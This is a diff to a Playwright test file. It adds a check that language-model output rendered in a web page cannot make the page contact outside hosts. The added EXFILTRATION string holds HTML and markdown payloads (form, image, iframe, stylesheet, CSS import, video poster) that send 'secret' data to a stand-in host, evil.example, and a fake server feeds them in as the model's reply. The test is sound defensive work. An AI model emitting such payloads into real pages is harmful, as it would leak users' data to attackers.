@@ -77,15 +77,19 @@ def server(fake: FakeServer) -> FakeServer:
 def page(browser, url: str, server: FakeServer):
     context = browser.new_context()
 
+    outside: list[str] = []
+
     def local_only(route):
         host = urlparse(route.request.url).hostname
         if host == "127.0.0.1":
             route.continue_()
         else:
+            outside.append(route.request.url)
             route.abort()
 
     context.route("**/*", local_only)
     opened = context.new_page()
+    opened.outside_requests = outside  # what the page tried to send anywhere else
     opened.set_default_timeout(20_000)
     opened.goto(url)
     opened.wait_for_selector("#refine-q textarea")
@@ -216,3 +220,52 @@ def test_a_finished_run_is_listed_in_the_history_tab(page):
     page.locator("#refine-answer").get_by_text("There are 3").wait_for()
     page.get_by_role("tab", name="History").click()
     page.get_by_text("A question worth keeping").first.wait_for()
+
+
+EXFILTRATION = (
+    "Result below.\n\n"
+    '<form action="http://evil.example/steal" method="get">'
+    '<input id="evil-input" name="data" value="secret-from-page" autofocus>'
+    '<button id="evil-button">send</button></form>\n\n'
+    '<img src="http://evil.example/pixel.png?data=secret-from-img">\n\n'
+    "![chart](http://evil.example/md.png?data=secret-from-markdown)\n\n"
+    '<iframe src="http://evil.example/frame"></iframe>\n\n'
+    '<link rel="stylesheet" href="http://evil.example/s.css">\n\n'
+    "<style>@import url(http://evil.example/i.css);</style>\n\n"
+    '<video poster="http://evil.example/poster.png"></video>\n'
+)
+
+
+def leaking(request: RecordedRequest) -> str:
+    """Every reply, and the synthesized answer, tries to send data to an outside host."""
+    if "## Concise Answer" in (request.system or ""):
+        return SYNTHESIS.replace('There are 3 r\'s in "strawberry".', EXFILTRATION)
+    return FIRST_TURN + "\n\n" + EXFILTRATION
+
+
+def test_model_output_cannot_make_the_page_send_anything_anywhere(page, server):
+    server.reply_with(leaking)
+    ask(page, "q")
+    page.locator("#refine-summary").get_by_text("Done", exact=False).wait_for()
+    for title in ("Turn 1", "Synthesis"):
+        section(page, title).click()
+    page.locator("#refine-sections").get_by_text("Result below.").first.wait_for()
+    page.locator("#refine-answer").get_by_text("Result below.").wait_for()
+    time.sleep(1.0)  # give any image, frame or stylesheet time to be fetched
+    active = page.evaluate(
+        "[...document.querySelectorAll('form, iframe, #evil-input, #evil-button, input[name=data],"
+        ' [src*="evil.example"], [action*="evil.example"], [poster*="evil.example"],'
+        ' link[href*="evil.example"]\')].map(e => e.outerHTML.slice(0, 80)).concat('
+        "[...document.querySelectorAll('style')].filter(e => e.textContent.includes('evil.'))"
+        ".map(e => e.outerHTML.slice(0, 80)))"
+    )
+    assert active == []
+    # Enter where the injected input would be, and a click on its button, go nowhere.
+    page.locator("#refine-answer").get_by_text("Result below.").click()
+    page.keyboard.press("Enter")
+    page.locator("#refine-answer").get_by_text("send").first.click()
+    time.sleep(0.5)
+    assert urlparse(page.url).hostname == "127.0.0.1"
+    assert page.outside_requests == []
+    # The image is offered as a link the reader may choose to follow; nothing loads by itself.
+    assert page.locator("#refine-answer").get_by_text("image: chart").is_visible()
